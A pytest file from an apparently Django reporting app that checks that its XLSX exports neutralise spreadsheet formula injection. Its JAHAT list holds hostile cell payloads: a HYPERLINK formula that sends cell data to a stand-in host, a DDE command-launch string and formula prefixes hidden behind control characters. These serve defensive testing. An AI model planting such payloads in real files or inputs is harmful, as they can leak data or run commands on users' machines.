"""One XLSX writer: text is never a formula, numbers are numbers, every export is scanned."""

import datetime as dt
import io
import pathlib
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from kinerja.core.xlsx import XlsxBook
from kinerja.organisasi.models import Satker
from kinerja.perencanaan.models import Indikator, SasaranKegiatan
from ..kecil import KODE as K

JAHAT = [
    '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")', "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3",
    "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1\x01\x02",
]


def pindai(isi: bytes) -> list[openpyxl.cell.Cell]:
    """Every cell of every sheet; fails on a formula anywhere (cell type or raw XML)."""
    with zipfile.ZipFile(io.BytesIO(isi)) as z:
        for nama in z.namelist():
            if nama.startswith("xl/worksheets/"):
                xml = z.read(nama).decode()
                assert not re.search(r"<f[ >]", xml), f"rumus di {nama}"
    wb = openpyxl.load_workbook(io.BytesIO(isi))
    sel = []
    for ws in wb.worksheets:
        for baris in ws.iter_rows():
            for c in baris:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert c.quotePrefix, (c.coordinate, c.value)
                sel.append(c)
    return sel


def test_teks_jahat_tetap_teks():
    b = XlsxBook("Lembar [1]: uji/coba?*" + "x" * 40)
    b.row(JAHAT)
    b.row([Decimal("82.21"), 1500, None, True, Decimal("NaN")])
    isi = b.save()
    sel = pindai(isi)
    nilai = [c.value for c in sel]
    assert nilai[:7] == JAHAT[:7] and nilai[8] == "=1+1\ufffd\ufffd"
    assert nilai[7] in ("\r=1+1", "\n=1+1")  # XML reads a bare CR as LF; still text
    ws = openpyxl.load_workbook(io.BytesIO(isi)).active
    assert ws.title == "Lembar -1-- uji-coba--xxxxxxxxx" and len(ws.title) == 31
    assert ws["A2"].value == Decimal("82.21") or ws["A2"].value == pytest.approx(82.21)
    assert ws["A2"].data_type == "n" and ws["A2"].number_format == "#,##0.00"
    assert ws["B2"].value == 1500 and ws["B2"].number_format == "#,##0"
    assert ws["D2"].value == "Ya" and ws["E2"].value == "tidak valid"


def _rute_xlsx(resolver=None, ns=""):
    for p in (resolver or get_resolver()).url_patterns:
        if isinstance(p, URLResolver):
            if p.namespace != "admin":
                yield from _rute_xlsx(p, f"{ns}{p.namespace}:" if p.namespace else ns)
        elif isinstance(p, URLPattern) and p.name and p.name.endswith("_xlsx"):
            yield ns + p.name


EKSPOR = {"pengukuran:dasbor_xlsx": {"kode": K, "tahun": 2024}, "organisasi:jejak_xlsx": {"kode": K},
          "anggaran:anggaran_xlsx": {"kode": K, "tahun": 2024},
          "anggaran:templat_xlsx": {"kode": K, "tahun": 2024, "jenis": "realisasi"},
          "laporan:berkas_xlsx": {"kode": K, "tahun": 2024},  # + the id of a build made in the test
          "register:ekspor_xlsx": {"kode": K, "register": "ppid", "tahun": 2024},
          "register:templat_xlsx": {"kode": K, "register": "ppid", "tahun": 2024}}
BERANGKA = {"pengukuran:dasbor_xlsx", "anggaran:anggaran_xlsx", "laporan:berkas_xlsx"}  # exports that hold figures (as numbers)
# the hostile texts each export must show (so that the scan is not vacuous), by first character
AWALAN = {"anggaran:anggaran_xlsx": {"=", "+"}, "anggaran:templat_xlsx": {"+"},
          "register:templat_xlsx": {"0", "C"}}  # the template: its example row only ("Contoh: ...")


def test_setiap_ekspor_terdaftar():
    """A new export must be added here, so that its cells are scanned."""
    assert set(_rute_xlsx()) == set(EKSPOR)


@pytest.mark.parametrize("nama", sorted(EKSPOR))
def test_setiap_sel_ekspor_aman(nama, masuk, pengguna):
    from kinerja.lib.capaian import Pita
    from kinerja.organisasi import actions as org

    s = Satker.objects.get(kode=K)
    Satker.objects.filter(pk=s.pk).update(nama=JAHAT[0])
    for i, ind in enumerate(Indikator.objects.filter(sasaran__renstra__satker=s)[:len(JAHAT)]):
        Indikator.objects.filter(pk=ind.pk).update(nama=JAHAT[i], kode=JAHAT[i][:20])
        SasaranKegiatan.objects.filter(pk=ind.sasaran_id).update(uraian=JAHAT[-1 - i])
    org.atur_pita(s, (Pita(Decimal(500), "=2+2"), Pita(Decimal(0), "@SUM(A1)")), pelaku=pengguna("uji_admin"))
    from kinerja.anggaran.models import BarisDipa

    BarisDipa.objects.filter(dipa__satker=s, tingkat="program").update(uraian=JAHAT[1])
    BarisDipa.objects.filter(dipa__satker=s, tingkat="kegiatan").update(uraian=JAHAT[3])
    from kinerja.register.models import PermohonanInformasi

    for i, t in enumerate(JAHAT):  # a register's records with the hostile texts
        PermohonanInformasi.objects.create(satker=s, nomor=t[:50], diterima=dt.date(2024, 3, 1 + i), informasi=t)
    kwargs = dict(EKSPOR[nama])
    if nama == "laporan:berkas_xlsx":  # the report's tables, built from the hostile names above
        from kinerja.laporan.actions import jalankan_pembuatan
        from kinerja.laporan.models import Pembuatan

        kwargs["pembuatan_id"] = jalankan_pembuatan(Pembuatan.objects.create(satker=s, tahun=2024, format="xlsx").pk).pk
    r = masuk("uji_pembaca").get(reverse(nama, kwargs=kwargs))
    assert r.status_code == 200
    sel = pindai(b"".join(r.streaming_content) if r.streaming else r.content)
    teks = {c.value for c in sel if isinstance(c.value, str)}
    if nama in AWALAN:
        assert {t[:1] for t in teks} >= AWALAN[nama]
    if nama in AWALAN and nama in BERANGKA:
        assert any(c.data_type == "n" and isinstance(c.value, (int, float, Decimal)) for c in sel)
    elif nama in BERANGKA:
        assert JAHAT[1] in teks and "=1+1" in teks and "@SUM(A1)" in teks
        assert any(c.data_type == "n" and isinstance(c.value, (int, float, Decimal)) for c in sel)
    elif nama not in AWALAN:  # the hostile names open cells of the history (record titles): all quote-prefixed
        assert {t[:1] for t in teks} >= {"=", "+", "-"}


def test_hanya_satu_penulis_xlsx():
    """Every export goes through kinerja.core.xlsx and every import reads through
    kinerja.core.impor: no other module touches openpyxl."""
    akar = pathlib.Path(__file__).resolve().parents[2] / "kinerja"
    pelanggar = [str(p.relative_to(akar)) for p in akar.rglob("*.py")
                 if "openpyxl" in p.read_text() and str(p.relative_to(akar)) not in ("core/xlsx.py", "core/impor.py")]
    assert pelanggar == []


def test_safe_text_membuang_yang_tidak_dapat_dimuat_xml():
    from kinerja.core.xlsx import safe_text

    assert safe_text("a\x00b\x1fc\ud800d\ufffee\uffff😀\n\t") == "a\ufffdb\ufffdc\ufffdd\ufffde\ufffd😀\n\t"
